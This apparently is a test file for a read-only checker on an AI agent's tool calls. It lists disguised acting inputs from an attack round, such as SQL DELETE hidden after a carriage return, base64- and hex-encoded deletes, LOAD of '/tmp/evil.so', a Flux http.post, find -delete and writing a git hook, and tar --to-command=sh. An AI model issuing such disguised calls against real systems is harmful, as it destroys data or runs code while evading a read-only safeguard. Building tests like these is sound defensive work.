// Read-only tools whose calls act in forms the eighteenth outside round (atk18, classes 1–6, 9, 10) found read as
// reads: statement kinds the SQL reader had no shape for, a carriage return ending a comment, a "pure" function in a
// user's schema, an encoded query, Flux and InfluxQL writes, SPARQL updates without braces, command lines with
// acting options, GraphQL subscriptions. Their ordinary reading twins stay reads.
import { before, describe, it } from "node:test";
import assert from "node:assert/strict";
import { createShellAnalyzer, type ShellAnalyzer } from "../exec/index.ts";
import { checkReadOnlyCall } from "./read-only-check.ts";

let shell: ShellAnalyzer;
before(async () => {
  shell = await createShellAnalyzer();
});

const cases: Record<"acts" | "unclear" | "reads", [string, unknown][]> = {
  acts: [
    ["query", { sql: "SHUTDOWN" }], ["query", { sql: "KILL 12" }], ["query", { sql: "INSTALL PLUGIN x SONAME 'x.so'" }], ["query", { sql: "LOAD '/tmp/evil.so'" }],
    ["query", { sql: "RESET MASTER" }], ["query", { sql: "PURGE BINARY LOGS BEFORE '2030-01-01'" }], ["query", { sql: "FLUSH TABLES WITH READ LOCK" }],
    ["query", { sql: "CLUSTER users USING users_pkey" }], ["query", { sql: "COMMENT ON COLUMN users.role IS 'admin'" }], ["query", { sql: "SECURITY LABEL ON TABLE users IS 'x'" }],
    ["query", { sql: "REASSIGN OWNED BY app TO attacker" }], ["query", { sql: "COMMIT PREPARED 'tx_payroll'" }], ["query", { sql: "notify payments, 'refund'" }],
    ["query", { sql: "LISTEN payments" }], ["query", { sql: "UNLISTEN *" }], ["query", { sql: "ANALYZE VERBOSE" }], ["query", { statement: "FROBNICATE ALL" }],
    ["run_query", { query: "SHUTDOWN" }], ["query", { q: "COMMENT ON TABLE users IS 'owned'" }],
    ["query", { sql: "SELECT 1 -- note\rDELETE FROM users" }], ["query", { sql: "SELECT 1 -- x\rUPDATE users SET role='admin'" }],
    ["query", { sql_b64: Buffer.from("DELETE FROM users").toString("base64") }], ["query", { query_b64: Buffer.from("SELECT 1; DELETE FROM users").toString("base64") }],
    ["query", { sql_hex: Buffer.from("DELETE FROM users").toString("hex") }], ["query", { sql: "DELETE%20FROM%20users" }],
    ["query", { flux: 'from(bucket:"a") |> range(start:-1h) |> to(bucket:"b")' }], ["query", { flux: 'import "http"\nhttp.post(url:"http://x/", data: bytes(v:"x"))' }],
    ["query", { sql: "DROP MEASUREMENT cpu" }], ["query", { influxql: "DELETE FROM cpu" }], ["query", { q: "DROP MEASUREMENT cpu" }],
    ["sparql", { query: "CLEAR ALL" }], ["sparql", { query: "DROP SILENT DEFAULT" }], ["sparql", { query: "LOAD <http://x.example/g>" }],
    ["sparql", { query: "PREFIX ex: <http://x.example/>\nCLEAR GRAPH <http://x.example/g>" }], ["sparql", { query: "MOVE DEFAULT TO <http://x.example/g>" }],
    ["find", { args: [".", "-name", "x", "-delete"] }], ["find", { command: 'find . -name "*.bak" -delete' }], ["find", { args: [".", "-fprint", ".git/hooks/pre-commit"] }],
    ["search_files", { command: "rg --pre=./tools/p x" }], ["tar_list", { args: ["-xf", "a.tar", "--to-command=sh"] }],
  ],
  unclear: [
    ["query", { sql: "SELECT app.lower(name) FROM users" }], ["query", { sql: "SELECT public.lower(id) FROM users" }],
    ["query", { sql_b64: "////////AAAA" }], ["graphql", { query: "subscription { onPayment { id } }" }], ["graphql", { query: "subscription { deleteAllOnConnect }" }],
    ["search_files", { args: ["--pre", "sh", "x"] }], ["search_files", { args: ["--pre=sh", "x"] }], ["query", { flux: 'from(bucket:"a") |> range(start:-1h) |> myFunc()' }],
  ],
  reads: [
    ["query", { sql: "SELECT count(*) FROM users" }], ["query", { sql: "-- latest\r\nSELECT p.title FROM posts p JOIN users u ON u.id = p.author" }],
    ["query", { sql: "SELECT pg_catalog.lower(name) FROM app.users" }], ["query", { sql: "SELECT c.name, row_number() OVER (PARTITION BY c.region ORDER BY c.total) FROM app.customers c" }],
    ["query", { sql: "WITH u AS (SELECT * FROM invoices WHERE paid = false) SELECT count(*) FROM u" }], ["query", { sql: "EXPLAIN SELECT * FROM users" }], ["query", { sql: "SHOW TABLES" }],
    ["query", { flux: 'from(bucket:"a") |> range(start:-1h) |> mean()' }], ["sparql", { query: "SELECT ?s WHERE { ?s ?p ?o } LIMIT 5" }],
    ["find", { args: [".", "-name", "*.md"] }], ["search_files", { args: ["-n", "TODO", "src"] }], ["tar_list", { args: ["-tzf", "a.tar"] }],
    ["kubectl_get", { args: ["get", "pods", "-o", "wide"] }], ["kubectl_get", { args: ["get", "pods", "-A"] }], ["search", { q: "drop all the old photos" }],
    ["search", { q: "clear all notifications" }], ["get_order", { id: "deadbeefcafebabe" }], ["get_user", { id: "U0VMRUNU" }],
  ],
};

describe("checkReadOnlyCall, acting forms of atk18", () => {
  for (const [kind, list] of Object.entries(cases)) {
    for (const [tool, args] of list) it(`${tool} ${JSON.stringify(args).slice(0, 90)} ${kind}`, () => assert.equal(checkReadOnlyCall(tool, args, shell).kind, kind));
  }
});
